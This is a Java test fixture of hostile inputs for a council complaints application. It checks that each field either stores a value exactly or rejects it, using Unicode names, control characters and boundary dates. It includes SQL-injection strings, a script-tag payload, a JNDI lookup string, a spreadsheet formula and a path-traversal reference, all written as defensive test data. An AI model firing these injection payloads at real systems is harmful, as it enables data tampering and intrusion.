package uk.councilcomplaints.testing;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * A corpus of hostile inputs, as data: each a value, the field it goes into and what must happen: stored exactly
 * as given (and read back identically), or rejected with a message naming the field. Nulls, empty, blank and
 * oversized strings (to 100,000 characters), control characters, unpaired surrogates, SQL injection and markup,
 * Welsh and other non-ASCII names, combining marks, emoji (joined, flags, tags), right-to-left and
 * bidirectional overrides, malformed emails, references outside the pattern, and dates before 1900, far
 * ahead, in the future and outside the working-day calendar. {@code workflow.HostileInputContract} runs it
 * through the facade on a store; importers reuse its text.
 */
public final class HostileInputs {

    /** Where a value goes: a field of a command (its path as validation reports it). */
    public enum Field {
        REFERENCE("reference"),
        NAME("complainant.name"),
        EMAIL("complainant.email"),
        PHONE("complainant.phone"),
        ADDRESS("complainant.address"),
        SUMMARY("summary"),
        ACTOR("actor"),
        REASON("reason"),
        OFFICER("officer"),
        TEAM("team"),
        SERVICE_AREA_NAME("service area name"),
        RECEIVED_AT("receivedAt"),
        MATTER_DATE("matterDate"),
        OCCURRED_AT("occurredAt"),
        AGREED_DATE("date");

        private final String path;

        Field(String path) {
            this.path = path;
        }

        /** The field's name as an error message gives it. */
        public String path() {
            return path;
        }
    }

    /**
     * One hostile input.
     *
     * @param description what it is
     * @param field where it goes
     * @param value the value, null for a missing one (an optional field's {@code Optional} itself null)
     * @param stored whether it must be stored exactly (else rejected naming the field)
     * @param readBack what reading it back must give when stored: the value itself, but an instant truncated to
     *     microseconds
     */
    public record HostileInput(String description, Field field, Object value, boolean stored, Object readBack) {
        @Override
        public String toString() {
            return field + " " + description + (stored ? " is stored" : " is rejected");
        }
    }

    /** The clock of the runs: inputs "in the future" are after it. */
    public static final Instant NOW = Instant.parse("2024-06-03T10:00:00Z");

    /** Where single-line text goes: every text field but the free-text ones and the reference. */
    private static final List<Field> LINES = List.of(Field.NAME, Field.PHONE, Field.ACTOR, Field.OFFICER, Field.TEAM);

    private HostileInputs() {
    }

    /** Text any single-line field must store exactly. */
    public static List<String> storedText() {
        return List.of(
                "Siân Llŷr ap Dafydd",
                "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
                "Gwenllïan ferch Gruffydd",
                "Seán Ó Súilleabháin",
                "Łukasz Żółć-Brontë",
                "Ελένη Παπαδοπούλου",
                "Иван Петров",
                "李小龍 佐藤太郎",
                "अनुराग शर्मा",
                "محمد عبد الله",
                "דוד כהן (בית 3)",
                "\u202Egnp.exe",
                "Anne\u200B\u200DZero-width",
                "\uFEFFByte order mark first",
                "Jo 😀 Bloggs",
                "👨‍👩‍👧‍👦 family",
                "🏴󠁧󠁢󠁷󠁬󠁳󠁿 Cymru",
                "👍🏿 thumbs",
                "Zoe\u0308 combining diaeresis",
                "Robert'); DROP TABLE complaint_events;--",
                "' OR '1'='1",
                "\\'; DELETE FROM complaints; --",
                "100% _wild_ %cards%",
                "<script>alert('x')</script>",
                "=HYPERLINK(\"http://example.org\",\"click\")",
                "${jndi:ldap://example.org/a} {jakarta.validation.constraints.NotNull.message} #{1+1}",
                "\"quoted\", with comma",
                "  padded  ",
                "x",
                "\uE000 private use and \uD83F\uDFFF max plane",
                "non\u00A0breaking\u00A0space");
    }

    /** Text no single-line field may take, with what is wrong. */
    private static List<String[]> rejectedLines() {
        return List.of(
                new String[] {"empty", ""},
                new String[] {"blank", "   "},
                new String[] {"NUL", "a\u0000b"},
                new String[] {"bell", "ding\u0007"},
                new String[] {"escape sequence", "\u001B[31mred"},
                new String[] {"DEL", "del\u007F"},
                new String[] {"next line C1 control", "a\u0085b"},
                new String[] {"line feed", "two\nlines"},
                new String[] {"carriage return", "two\rlines"},
                new String[] {"CRLF", "two\r\nlines"},
                new String[] {"line separator", "two\u2028lines"},
                new String[] {"tab", "a\tb"},
                new String[] {"unpaired high surrogate", "bad\uD800"},
                new String[] {"reversed surrogates", "\uDE00\uD83D"},
                new String[] {"100,000 characters", "x".repeat(100_000)});
    }

    /** The whole corpus. */
    public static List<HostileInput> corpus() {
        List<HostileInput> all = new ArrayList<>();
        // every single-line text field: nothing, the clean texts (in turn), the bad ones, its length limit exactly
        for (Field f : LINES) {
            all.add(rejected("null", f, null));
            List<String> clean = storedText();
            int max = f == Field.PHONE ? 40 : 200;
            for (int i = LINES.indexOf(f); i < clean.size(); i += LINES.size()) {
                String text = clean.get(i);
                all.add(text.codePointCount(0, text.length()) <= max ? stored(text, f, text)
                        : rejected(text, f, text));
            }
            for (String[] bad : rejectedLines()) {
                all.add(rejected(bad[0], f, bad[1]));
            }
            all.add(stored(max + " emoji, the limit", f, "😀".repeat(max)));
            all.add(rejected((max + 1) + " characters", f, "ŵ".repeat(max + 1)));
        }
        // free text: line breaks and tabs allowed, other controls not
        for (Field f : List.of(Field.SUMMARY, Field.ADDRESS, Field.REASON)) {
            int max = f == Field.SUMMARY ? 10_000 : f == Field.ADDRESS ? 500 : 2_000;
            all.add(rejected("null", f, null));
            all.add(rejected("empty", f, ""));
            all.add(rejected("only line breaks", f, "\r\n\n"));
            all.add(rejected("NUL", f, "a\u0000b"));
            all.add(rejected("form feed", f, "page\fbreak"));
            all.add(rejected("unpaired low surrogate", f, "\uDC00 alone"));
            all.add(stored("CRLF lines", f, "Flat 3,\r\n1 Heol y Frenhines,\r\nCaerdydd"));
            all.add(stored("LF, tab, line separator", f, "one\n\ttwo\u2028three\u2029four"));
            all.add(stored("SQL", f, "x'); UPDATE complaint_events SET actor = 'me'; --\n' OR 1=1 --"));
            all.add(stored("mixed scripts and emoji", f, "Cwyn am y bin 🗑️ — שלום — مرحبا — 你好\nDiolch!"));
            all.add(stored(max + " characters, the limit, in emoji", f, "💩".repeat(max)));
            all.add(stored(max + " characters, the limit, in Welsh", f, "ŵ".repeat(max)));
            all.add(rejected((max + 1) + " characters", f, "a".repeat(max + 1)));
            all.add(rejected("100,000 characters", f, "b".repeat(100_000)));
        }
        // email: a well-formed address of at most 254 characters
        all.add(rejected("null", Field.EMAIL, null));
        for (String good : List.of("resident@example.org", "o'brien+council@example.ie", "rhys@enghraifft.cymru",
                "\"quoted local\"@example.org")) {
            all.add(stored(good, Field.EMAIL, good));
        }
        for (String bad : List.of("", "not-an-email", "a@@example.org", "a b@example.org", "@example.org",
                "resident@", "resident@example.org\n", "<script>@example.org", "x'--@example.org;DROP",
                "a@" + "b".repeat(250) + ".org", "\u0000@example.org")) {
            all.add(rejected("'" + bad.replace("\n", "\\n").replace("\u0000", "\\0") + "'", Field.EMAIL, bad));
        }
        // the council's own reference
        all.add(rejected("null", Field.REFERENCE, null));
        for (String good : List.of("CMP/2022/0001", "a.b_c-d", "A".repeat(40))) {
            all.add(stored(good, Field.REFERENCE, good));
        }
        for (String bad : List.of("", "Ref 1", "CMP-2022-1'; --", "Ŵ-1", "-1", "../../etc/passwd", "A".repeat(41),
                "ref\n1", "😀")) {
            all.add(rejected("'" + bad.replace("\n", "\\n") + "'", Field.REFERENCE, bad));
        }
        // a council's own service area
        all.add(stored("Welsh with emoji", Field.SERVICE_AREA_NAME, "Ffyrdd a Phalmentydd 🚧"));
        all.add(stored("100 characters", Field.SERVICE_AREA_NAME, "ŷ".repeat(100)));
        all.add(rejected("101 characters", Field.SERVICE_AREA_NAME, "y".repeat(101)));
        all.add(rejected("blank", Field.SERVICE_AREA_NAME, " "));
        all.add(rejected("line break", Field.SERVICE_AREA_NAME, "Roads\nand paths"));
        // instants and days
        all.add(rejected("null", Field.RECEIVED_AT, null));
        all.add(rejected("an hour ahead", Field.RECEIVED_AT, NOW.plusSeconds(3600)));
        all.add(rejected("in 2300", Field.RECEIVED_AT, Instant.parse("2300-01-01T00:00:00Z")));
        all.add(rejected("Instant.MAX", Field.RECEIVED_AT, Instant.MAX));
        all.add(rejected("before 1900", Field.RECEIVED_AT, Instant.parse("1899-12-31T23:59:59Z")));
        all.add(rejected("Instant.MIN", Field.RECEIVED_AT, Instant.MIN));
        all.add(rejected("1950, before the calendar", Field.RECEIVED_AT, Instant.parse("1950-06-01T09:00:00Z")));
        all.add(stored("nanoseconds, kept to the microsecond", Field.RECEIVED_AT,
                Instant.parse("2024-06-03T08:30:00.123456789Z"), Instant.parse("2024-06-03T08:30:00.123456Z")));
        all.add(rejected("null", Field.MATTER_DATE, null));
        all.add(stored("1 January 1900", Field.MATTER_DATE, LocalDate.of(1900, 1, 1)));
        all.add(rejected("31 December 1899", Field.MATTER_DATE, LocalDate.of(1899, 12, 31)));
        all.add(rejected("year 1", Field.MATTER_DATE, LocalDate.of(1, 1, 1)));
        all.add(rejected("tomorrow", Field.MATTER_DATE, LocalDate.of(2024, 6, 4)));
        all.add(rejected("LocalDate.MAX", Field.MATTER_DATE, LocalDate.MAX));
        all.add(rejected("null", Field.OCCURRED_AT, null));
        all.add(rejected("before 1900", Field.OCCURRED_AT, Instant.parse("1800-01-01T00:00:00Z")));
        all.add(rejected("a minute ahead", Field.OCCURRED_AT, NOW.plusSeconds(60)));
        all.add(rejected("Instant.MAX", Field.OCCURRED_AT, Instant.MAX));
        all.add(stored("two days back, nanoseconds", Field.OCCURRED_AT, Instant.parse("2024-06-01T08:00:00.000000999Z"),
                Instant.parse("2024-06-01T08:00:00Z")));
        all.add(rejected("null", Field.AGREED_DATE, null));
        all.add(rejected("before 1900", Field.AGREED_DATE, LocalDate.of(1066, 10, 14)));
        all.add(rejected("in 2300", Field.AGREED_DATE, LocalDate.of(2300, 1, 1)));
        all.add(rejected("1 January 2200, after the last supported day", Field.AGREED_DATE, LocalDate.of(2200, 1, 1)));
        all.add(stored("31 December 2199, the last supported day", Field.AGREED_DATE, LocalDate.of(2199, 12, 31)));
        all.add(stored("a month ahead", Field.AGREED_DATE, LocalDate.of(2024, 7, 3)));
        return List.copyOf(all);
    }

    private static HostileInput stored(String description, Field field, Object value) {
        return new HostileInput(abbreviate(description), field, value, true, value);
    }

    private static HostileInput stored(String description, Field field, Object value, Object readBack) {
        return new HostileInput(description, field, value, true, readBack);
    }

    private static HostileInput rejected(String description, Field field, Object value) {
        return new HostileInput(abbreviate(description), field, value, false, Optional.empty());
    }

    private static String abbreviate(String text) {
        return text.codePointCount(0, text.length()) <= 40 ? text
                : text.substring(0, text.offsetByCodePoints(0, 37)) + "...";
    }
}
